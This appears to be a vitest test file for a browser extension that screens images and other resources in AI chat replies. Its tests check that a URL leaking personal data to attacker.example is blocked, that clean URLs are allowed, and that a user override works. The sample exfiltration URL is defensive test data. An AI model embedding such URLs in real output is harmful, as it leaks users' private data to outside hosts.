import { describe, expect, it, vi } from 'vitest';
import { err, ok } from '../../../lib/core/result.ts';
import { checkResources, createResourceService } from '../../../lib/exfil/resource-check.ts';
import { siteResourceHosts } from '../../../lib/exfil/resource-hosts.ts';
import type { SiteAdapter } from '../../../lib/sites/site-adapter.ts';
import { DEMO_SITE } from '../../../lib/sites/sites.ts';

const context = { ownHosts: siteResourceHosts(['chatgpt.com']), inReply: true, conversationText: 'my card is 4111 1111 1111 1111' };
const EXFIL = 'https://attacker.example/p?d=dana.whitfield@acme-mail.com';
const CLEAN = 'https://images.example/cat.png';
const OWN = 'https://files.oaiusercontent.com/f.png';

describe('checkResources', () => {
  it('blocks flagged URLs, allows clean ones in one call, and leaves own hosts alone', async () => {
    const allow = vi.fn(async () => ok(null));
    const results = await checkResources([EXFIL, CLEAN, OWN, CLEAN], context, allow);
    expect(allow).toHaveBeenCalledTimes(1);
    expect(allow).toHaveBeenCalledWith([CLEAN]);
    expect(results).toEqual([
      { url: EXFIL, host: 'attacker.example', outcome: 'blocked', reasons: ['pii'] },
      { url: CLEAN, host: 'images.example', outcome: 'allowed', reasons: [] },
      { url: OWN, host: 'files.oaiusercontent.com', outcome: 'own-host', reasons: [] },
    ]);
  });

  it('reports clean URLs as unavailable when the allow rule could not be installed', async () => {
    const results = await checkResources([CLEAN], context, async () => err('refused'));
    expect(results).toEqual([{ url: CLEAN, host: 'images.example', outcome: 'unavailable', reasons: [] }]);
  });

  it('answers under the URL the content script sent, even when the browser form differs', async () => {
    const allow = vi.fn(async () => ok(null));
    const [result] = await checkResources(['https://images.example/cat.png#top'], context, allow);
    expect(allow).toHaveBeenCalledWith([CLEAN]);
    expect(result).toMatchObject({ url: 'https://images.example/cat.png#top', outcome: 'allowed' });
  });

  it('never asks to allow anything when nothing is clean', async () => {
    const allow = vi.fn(async () => ok(null));
    await checkResources([EXFIL, OWN], context, allow);
    expect(allow).not.toHaveBeenCalled();
  });
});

describe('createResourceService', () => {
  const chatgpt: SiteAdapter = { ...DEMO_SITE, id: 'chatgpt', hosts: ['chatgpt.com'] };

  it('checks against the sending page’s site and installs rules in the sending tab', async () => {
    const allow = vi.fn(async () => ok(null));
    const service = createResourceService({ sites: [chatgpt], allow });
    const reply = await service.check({ type: 'content:resource-check', urls: [CLEAN, OWN], inReply: true }, 4, 'https://chatgpt.com/c/1');
    expect(reply).toMatchObject({ ok: true, value: [{ outcome: 'allowed' }, { outcome: 'own-host' }] });
    expect(allow).toHaveBeenCalledWith(4, [CLEAN]);
    expect(await service.check({ type: 'content:resource-check', urls: [CLEAN], inReply: true }, 4, 'https://other.example/')).toMatchObject({ ok: false });
  });

  it('lets a flagged URL through on the user’s word ("Load anyway")', async () => {
    const allow = vi.fn(async () => ok(null));
    const service = createResourceService({ sites: [chatgpt], allow });
    expect(await service.allow({ type: 'content:resource-allow', url: `${EXFIL}#x` }, 4)).toEqual(ok(null));
    expect(allow).toHaveBeenCalledWith(4, [EXFIL]);
    expect(await service.allow({ type: 'content:resource-allow', url: 'data:,x' }, 4)).toMatchObject({ ok: false });
  });
});
